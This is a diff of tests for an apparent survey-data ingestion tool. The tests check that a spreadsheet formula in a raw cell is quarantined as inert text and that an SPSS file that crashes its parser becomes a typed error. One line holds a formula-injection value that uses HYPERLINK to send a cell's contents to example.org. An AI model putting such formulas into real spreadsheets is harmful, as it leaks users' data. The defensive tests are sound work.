@@ -190,3 +190,13 @@ def test_a_formula_in_a_raw_cell_reaches_the_quarantine_as_text(tmp_path):
     # opened in a spreadsheet, the analyst sees the text: the leading apostrophe stops it running
     assert quarantine["value"].tolist() == ["'=HYPERLINK(\"http://example.org/?\"&A1,\"x\")"]
     assert not quarantine.apply(lambda column: column.str.match(r"[=+@\t\r]")).any().any()
+
+
+def test_an_spss_file_that_crashes_its_parser_is_one_typed_error():
+    # pyreadstat (C) dies with SIGSEGV on this file: parsed in a child process, the crash is an error
+    hostile = Path(__file__).resolve().parents[1] / "data" / "hostile" / "crashes_readstat.sav"
+    from caresurvey.ingest.spss import read_spss
+
+    with pytest.raises(InputError) as caught:
+        read_spss(_source(hostile, group="Team manager"), Ledger())
+    assert caught.value.rule == "unreadable-sav" and "signal" in caught.value.message
